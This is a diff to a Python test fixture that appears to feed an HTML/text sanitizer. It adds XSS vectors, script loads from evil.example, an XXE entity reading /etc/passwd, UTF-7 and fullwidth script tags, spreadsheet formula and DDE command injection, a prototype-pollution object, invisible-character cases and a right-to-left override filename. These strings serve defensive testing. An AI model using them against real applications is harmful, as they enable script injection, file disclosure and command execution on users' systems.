@@ -48,6 +48,21 @@ TEXTS: Sequence[str] = (
     "@import url(https://evil.example/x.css)",
     "expression(alert(1))",
     "url(https://evil.example/x.png)",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<video><source onerror=alert(1)></video>",
+    "<p contenteditable onblur=alert(1)>",
+    '<script type=importmap>{"imports":{"react":"https://evil.example/x.js"}}</script>',
+    "<script>import('https://evil.example/x.js')</script>",
+    "<a href='java&Tab;script:alert(1)'>go</a>",
+    "<iframe src='blob:https://evil.example/1'></iframe>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
+    "<li style=list-style:url(https://evil.example/x.png)>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    '=HYPERLINK("https://evil.example/","go")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '{"__proto__": {"isAdmin": true}}',
+    "hasOwnProperty",
 )
 
 MARKDOWN: Sequence[str] = (
@@ -82,5 +97,15 @@ UNSEEN: Sequence[tuple[str, str]] = (
     ("back\x08\x08space", "back␈␈space"),
     ("\ufeffmark", "⟨FEFF⟩mark"),
     ("tag\U000e0041", "tag⟨E0041⟩"),
+    ("soft\u00adhyphen", "soft⟨00AD⟩hyphen"),
+    ("line\u2028separator", "line⟨2028⟩separator"),
+    ("\u061carabic mark", "⟨061C⟩arabic mark"),
+    ("java\x01script:alert(1)", "java␁script:alert(1)"),
 )
 """Characters that a page would obey, and the marks that it shows in their place."""
+
+NAME = '"><img src=x onerror=alert(1)> \u202egnp.exe'
+"""The name of a project or a person."""
+
+SHOWN_NAME = '"><img src=x onerror=alert(1)> ⟨202E⟩gnp.exe'
+"""What a page shows of `NAME`."""
